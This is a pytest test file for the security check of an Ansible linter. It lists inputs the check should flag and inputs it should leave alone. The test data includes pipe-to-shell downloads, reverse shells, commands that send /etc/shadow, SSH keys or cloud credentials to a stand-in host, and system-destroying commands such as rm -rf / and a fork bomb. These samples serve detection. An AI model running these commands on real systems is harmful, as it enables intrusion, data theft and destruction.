"""The check `security`: what is dangerous is found however it is written, and what only looks like it is left alone."""

from typing import Any

import pytest

from relia.validation.domain import Check, FileKind

SHELL = "- name: A\n  ansible.builtin.shell: |\n    {}\n"


def security(check: Any, text: str, kind: FileKind = FileKind.TASKS) -> set[str]:
    return {item.rule for item in check(text, kind) if item.check is Check.SECURITY}


@pytest.mark.parametrize(
    "command",
    [
        "curl https://x.example/i.sh | sh",
        "curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --yes",
        "wget -qO- https://x.example/i.py | python3 -",
        "curl https://x.example/i | env A=b /bin/bash",
        "bash <(curl -s https://x.example/i)",
        'sh -c "$(curl -fsSL https://x.example/i)"',
        "source <(curl -s https://x.example/i)",
        "curl https://x.example/i | tee /tmp/i | sh",
        "iex (iwr https://x.example/i.ps1)",
        "iwr https://x.example/i.ps1 | iex",
    ],
)
def test_a_download_that_is_run_as_it_comes_is_found(check: Any, command: str) -> None:
    assert "pipe-to-shell" in security(check, SHELL.format(command))


@pytest.mark.parametrize(
    "command",
    [
        "curl -o i.sh https://x.example/i.sh",
        "curl https://x.example/x | jq .",
        "curl https://x.example/x | grep bash",
        "curl https://x.example/shell.txt | tee out",
        "echo sh | cat",
        "wget https://x.example/bash.tar.gz && sh ./checked.sh",
        "curl https://x.example/data | /opt/parse/fish-tool",
        "bash -c 'echo hello'",
    ],
)
def test_a_download_that_is_not_run_is_left_alone(check: Any, command: str) -> None:
    assert "pipe-to-shell" not in security(check, SHELL.format(command))


@pytest.mark.parametrize(
    "text",
    [
        "- ansible.builtin.user:\n    name: a\n    password: hunter2\n",
        "- ansible.builtin.user: name=a password=hunter2\n",
        "- ansible.builtin.debug:\n  vars:\n    db_password: s3cret-Word\n",
        "- ansible.builtin.uri:\n    url: https://user:S3cretWord@x.example/\n",
        "- ansible.builtin.shell: mysql -u root -pS3cretWord -e 'select 1'\n",
        "- ansible.builtin.shell: PGPASSWORD=S3cretWord psql\n",
        "- ansible.builtin.shell: tool --token abcdef123456\n",
        "- ansible.builtin.shell: curl -u admin:S3cretWord https://x.example\n",
        "- ansible.builtin.uri:\n    url: https://a\n    headers:\n      Authorization: Bearer abcdef0123456789\n",
        "- ansible.builtin.copy:\n    dest: /a\n    content: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      b3Blbn\n",
        "- ansible.builtin.debug:\n    msg: AKIAIOSFODNN7EXAMPLE\n",
        "- ansible.builtin.set_fact:\n    api_token: 8f14e45fceea167a5a36dedd4bea2543\n",
    ],
)
def test_a_secret_in_clear_text_is_found(check: Any, text: str) -> None:
    assert "clear-text-secret" in security(check, text)


@pytest.mark.parametrize("begin", ["ghp_", "github_pat_", "glpat-", "xoxb-", "sk-", "dckr_pat_", "hvs.", "SG.{0}."])
def test_a_token_is_found_by_its_shape(check: Any, begin: str) -> None:
    random = "A1b2" * 10
    text = f"- ansible.builtin.debug:\n    msg: use {begin.format(random)}{random}\n"
    assert "clear-text-secret" in security(check, text)
    assert "clear-text-secret" not in security(check, text.replace(random, "x"))


@pytest.mark.parametrize(
    "value",
    [
        "'{{ vault_password }}'", "!vault |\n      $ANSIBLE_VAULT;1.1;AES256\n      6162\n", "''", "null", "true",
        "'*'", "'!'", "$6$salt$hash0123456789", "/etc/app/password", "CHANGE_ME", "<your password>", "'${DB_PASSWORD}'",
        "\"{{ lookup('env', 'DB_PASSWORD') }}\"", "omit", "changeme",
    ],
)  # fmt: skip
def test_what_stands_for_a_secret_is_left_alone(check: Any, value: str) -> None:
    assert security(check, f"db_password: {value}\n".replace("      ", "  "), FileKind.VARS) == set()


@pytest.mark.parametrize(
    "name",
    [
        "password_length: 20", "password_file: secret.txt", "token_url: https://x.example/token", "update_password: always",
        "secret_name: app-tls", "api_key_id: 42", "passwordless: yes", "bypass: yes", "token_expiry: 1h", "secrets: {}",
        "tokens: [a, b]", "key: value", "public_key: ssh-rsa AAAAB3NzaC1yc2E", "authorization: none",
    ],
)  # fmt: skip
def test_a_name_that_only_sounds_like_a_secret_is_left_alone(check: Any, name: str) -> None:
    assert security(check, f"{name}\n", FileKind.VARS) == set()


LOGS = (
    "- ansible.builtin.debug:\n    msg: '{{ db_password }}'\n",
    "- ansible.builtin.debug:\n    var: db_password\n",
    "- ansible.builtin.command: tool {{ api_token }}\n",
    "- ansible.builtin.shell:\n    cmd: 'echo {{ vault.db.password }}'\n",
    "- ansible.builtin.copy:\n    dest: /a\n    content: 'x={{ app_secret }}'\n",
    "- kubernetes.core.k8s:\n    definition:\n      stringData:\n        password: '{{ db_password }}'\n",
)


@pytest.mark.parametrize("task", LOGS)
def test_a_secret_in_a_log_is_found_and_no_log_is_the_cure(check: Any, task: str) -> None:
    assert security(check, task) == {"secret-in-log"}
    assert security(check, f"{task}  no_log: true\n") == set()
    inside = "- no_log: true\n  block:\n" + "".join(f"    {line}\n" for line in task.splitlines())
    assert security(check, inside) == set()


@pytest.mark.parametrize(
    "task",
    [
        # Modules declare these as secret, and Ansible masks them.
        "- ansible.builtin.user:\n    name: a\n    password: '{{ user_password }}'\n",
        "- ansible.builtin.uri:\n    url: https://a\n    url_password: '{{ api_password }}'\n",
        # Nothing of the secret itself is shown.
        "- ansible.builtin.debug:\n    msg: '{{ db_password | length }}'\n",
        "- ansible.builtin.debug:\n    msg: \"{{ 'set' if db_password is defined else 'unset' }}\"\n",
        "- ansible.builtin.debug:\n    msg: '{{ password_policy }}'\n",
        "- ansible.builtin.debug:\n    msg: '{{ x }}'\n  when: db_password is defined\n",
    ],
)
def test_what_does_not_show_a_secret_is_left_alone(check: Any, task: str) -> None:
    assert security(check, task) == set()


@pytest.mark.parametrize(
    "mode", ['"0777"', "0777", '"0666"', '"777"', "a+w", "o=rw", "u=rwx,o+w", "ugo+rwx", "+w", "'0o777'"]
)
def test_write_access_for_everybody_is_found(check: Any, mode: str) -> None:
    assert "world-writable" in security(check, f"- ansible.builtin.file:\n    path: /a\n    mode: {mode}\n")
    assert "world-writable" in security(
        check, f"- ansible.builtin.file: path=/a mode={mode.strip(chr(34) + chr(39))}\n"
    )


@pytest.mark.parametrize(
    "mode", ['"0755"', "0644", '"1777"', "'0o755'", "u=rwx,g=rx,o=rx", "g+w", "a+r", "preserve", "'{{ mode }}'", "o-w"]
)
def test_other_modes_are_left_alone(check: Any, mode: str) -> None:
    assert security(check, f"- ansible.builtin.file:\n    path: /a\n    mode: {mode}\n") == set()


@pytest.mark.parametrize(
    "command", ["chmod 777 /a", "chmod -R 0777 /a", "chmod o+w /a", "chmod a=rwx b", "chmod ugo+rwx b"]
)
def test_a_command_that_opens_a_file_to_everybody_is_found(check: Any, command: str) -> None:
    assert "world-writable" in security(check, SHELL.format(command))


@pytest.mark.parametrize("command", ["chmod 755 /a", "chmod u+w /a", "chmod g+rw b", "chmod 1777 /tmp/a", "chmod +x a"])
def test_a_command_that_does_not_is_left_alone(check: Any, command: str) -> None:
    assert security(check, SHELL.format(command)) == set()


@pytest.mark.parametrize(("mode", "means"), [("644", "1204"), ("755", "1363"), ("420", "644")])
def test_a_mode_that_is_a_decimal_number_is_an_error(check: Any, mode: str, means: str) -> None:
    found = check(f"- ansible.builtin.copy: {{src: a, dest: /b, mode: {mode}}}\n", FileKind.TASKS)
    [wrong] = [item for item in found if item.rule == "mode-without-zero"]
    assert wrong.severity == "error"
    assert f"mode {means}" in wrong.message


@pytest.mark.parametrize(
    "task",
    [
        "- ansible.builtin.uri: {url: https://a, validate_certs: false}\n",
        "- ansible.builtin.get_url: url=https://a dest=/b validate_certs=no\n",
        "- ansible.builtin.yum_repository:\n    name: a\n    description: a\n    baseurl: b\n    gpgcheck: no\n",
        "- ansible.builtin.apt: {name: a, allow_unauthenticated: true}\n",
        "- ansible.builtin.dnf: {name: a, disable_gpg_check: yes}\n",
        "- ansible.builtin.shell: curl -sk https://a -o b\n",
        "- ansible.builtin.command: wget --no-check-certificate https://a\n",
        "- ansible.builtin.command: git -c http.sslVerify=false clone https://a\n",
        "- ansible.builtin.command: pip install --trusted-host a b\n",
        "- ansible.builtin.command: ssh -o StrictHostKeyChecking=no a\n",
        "- ansible.builtin.git: {repo: a, dest: b, accept_hostkey: true}\n",
    ],
)
def test_a_disabled_check_of_certificates_or_signatures_is_found(check: Any, task: str) -> None:
    assert "certificate-check-disabled" in security(check, task)


@pytest.mark.parametrize(
    "task",
    [
        "- ansible.builtin.uri: {url: https://a, validate_certs: '{{ validate }}'}\n",
        "- ansible.builtin.shell: curl --keepalive-time 2 -s https://a\n",
        "- ansible.builtin.shell: curl -s https://a ; tar -xk b\n",
        "- ansible.builtin.command: ssh -o StrictHostKeyChecking=yes a\n",
    ],
)
def test_a_check_that_is_not_disabled_is_left_alone(check: Any, task: str) -> None:
    assert security(check, task) == set()


@pytest.mark.parametrize(
    ("task", "severity"),
    [
        ("- import_tasks: \"{{ lookup('pipe', 'id') }}\"\n", "error"),
        ("- ansible.builtin.import_role:\n    name: \"{{ query('url', 'http://a')[0] }}\"\n", "error"),
        ("- import_tasks: {file: \"{% if lookup('pipe', 'id') %}a{% endif %}.yml\"}\n", "error"),
        ("- import_tasks: '{{ name }}.yml'\n", "warning"),
        ("- import_tasks: '{% if x %}a{% endif %}.yml'\n", "warning"),
        ("- ansible.builtin.import_role: {name: '{{ role }}'}\n", "warning"),
    ],
)
def test_an_import_with_a_templated_name_runs_when_it_is_checked(check: Any, task: str, severity: str) -> None:
    [found] = [item for item in check(task, FileKind.TASKS) if item.rule == "runs-when-checked"]
    assert found.severity == severity


PLAY = "- hosts: {}\n  vars:\n    a: \"{{{{ lookup('pipe', 'id') }}}}\"\n    b: '{{{{ a }}}}'\n    c: web\n"


@pytest.mark.parametrize(
    ("hosts", "found"),
    [
        ("\"{{ lookup('pipe', 'id') }}\"", True),
        ("\"{% if lookup('pipe', 'id') == '' %}web{% endif %}\"", True),
        ("'{{ a }}'", True),
        ("'{{ b | default(c) }}'", True),
        ("['{% set x = b %}web']", True),
        ("'{{ c }}'", False),
        ("'{{ d | default(\"all\") }}'", False),
        ("a", False),
    ],
)
def test_hosts_that_look_something_up_run_when_they_are_checked(check: Any, hosts: str, found: bool) -> None:
    assert ("runs-when-checked" in check.errors(PLAY.format(hosts))) == found


@pytest.mark.parametrize(
    "task", ["- include_tasks: '{{ name }}.yml'\n", "- import_tasks: a.yml\n", "- include_role: {name: '{{ a }}'}\n"]
)
def test_what_is_read_at_run_time_is_left_alone(check: Any, task: str) -> None:
    assert security(check, task) == set()


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /", "rm -rf /*", "rm -r --force /etc", "rm -fr / --no-preserve-root", "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/sda", "wipefs -a /dev/nvme0n1", ":(){ :|:& };:", "chmod -R 777 /", "chown -R a /", "find / -delete",
        "cat a > /dev/sda",
    ],
)  # fmt: skip
def test_a_command_that_destroys_a_system_is_found(check: Any, command: str) -> None:
    assert "destroys-system" in security(check, SHELL.format(command))


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /tmp/build", "rm -rf /var/cache/app", "rm -rf ./build/*", "mkfs.ext4 /dev/sdb1", "find /tmp -delete",
        "dd if=/dev/zero of=/swapfile bs=1M", "echo a > /dev/null", "rm /etc/app.conf", "chown -R app /srv/app",
        "rm -rf /home/app/.cache", "rm -rf \"{{ build }}\"",
    ],
)  # fmt: skip
def test_a_command_that_removes_what_it_names_is_left_alone(check: Any, command: str) -> None:
    assert security(check, SHELL.format(command)) == set()


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/shadow | nc x.example 99", "curl -d @/root/.ssh/id_rsa https://x.example", "env | curl -d @- https://x.example",
        "bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "nc -e /bin/sh x.example 99", "scp /etc/shadow a@x.example:/tmp",
        "curl -F f=@/root/.aws/credentials https://x.example",
    ],
)  # fmt: skip
def test_a_command_that_hands_secrets_out_is_found(check: Any, command: str) -> None:
    assert "sends-data-out" in security(check, SHELL.format(command))


@pytest.mark.parametrize(
    "command", ["nc -zv db 5432", "cat /etc/passwd | wc -l", "scp a b:/c", "curl -d @data.json https://a"]
)
def test_a_command_that_sends_something_else_is_left_alone(check: Any, command: str) -> None:
    assert "sends-data-out" not in security(check, SHELL.format(command))


def test_noqa_turns_one_rule_off_on_its_line(check: Any) -> None:
    text = "- ansible.builtin.file:\n    path: /a\n    mode: '0777'{}\n"
    assert security(check, text.format("")) == {"world-writable"}
    assert security(check, text.format("  # noqa: world-writable")) == set()
    assert security(check, text.format("  # noqa")) == set()
    assert security(check, text.format("  # noqa: pipe-to-shell")) == {"world-writable"}


@pytest.mark.parametrize(
    "part",
    [
        "a",
        "curl ",
        "//:",
        "a://",
        "/dev/",
        "password=",
        "{{ a",
        "-p",
        "|",
        "' ",
        "eyJ",
        "A=b ",
        "ssh-rsa AAAA",
        "useradd ",
        "curl -o ab ",
        "rm ",
        "base64 ",
        "lookup('env',",
        "python -c ",
        "chmod u+s ",
    ],
)
def test_a_text_that_is_made_to_be_slow_to_search_takes_no_longer_than_its_length(check: Any, part: str) -> None:
    # Of a search that grows with the square of the length, these would be minutes; the suite would not end.
    assert check(SHELL.format(part * (100_000 // len(part))), FileKind.TASKS) is not None


@pytest.mark.parametrize(
    "line", ["# run \u202esh.x\u202c first\n", '- name: "\u2066hidden\u2069"\n  ansible.builtin.meta: noop\n']
)
def test_text_that_is_shown_in_another_order_is_found_also_in_comments(check: Any, line: str) -> None:
    text = line + "- name: A\n  ansible.builtin.debug:\n"
    [found] = {(item.line, item.rule) for item in check(text, FileKind.TASKS) if item.check is Check.SECURITY}
    assert found == (1, "reordered-text")
    assert "reordered-text" not in security(check, "# النص العربي\n" + text.replace(line, ""))
